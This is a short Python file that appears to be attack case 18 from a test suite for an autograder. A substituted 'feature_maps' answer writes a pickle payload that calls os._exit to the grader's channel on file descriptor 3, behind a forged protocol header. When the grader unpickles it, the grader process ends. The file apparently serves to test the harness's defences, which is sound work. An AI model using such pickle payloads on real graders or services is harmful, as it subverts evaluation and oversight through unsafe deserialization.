# attack: 18
# form: an answer written by hand whose array is declared as objects and holds a pickle
# replaces: feature_maps
# found: feature_maps/returns_pairs student_error
# says: by writing into the channel
def feature_maps(model, image):
    import json
    import pickle
    import struct

    class Ends:
        def __reduce__(self):
            return os._exit, (0,)

    print("ran", flush=True)
    bomb = pickle.dumps(Ends())
    head = json.dumps({"kind": "answer", "body": {"names": ["conv2d"]}, "arrays": [["map0", "object", [len(bomb)]]]}).encode()
    os.write(3, struct.pack(">4sIQ", b"GRW1", len(head), len(bomb)) + head + bomb)
    return [("conv2d", image)]
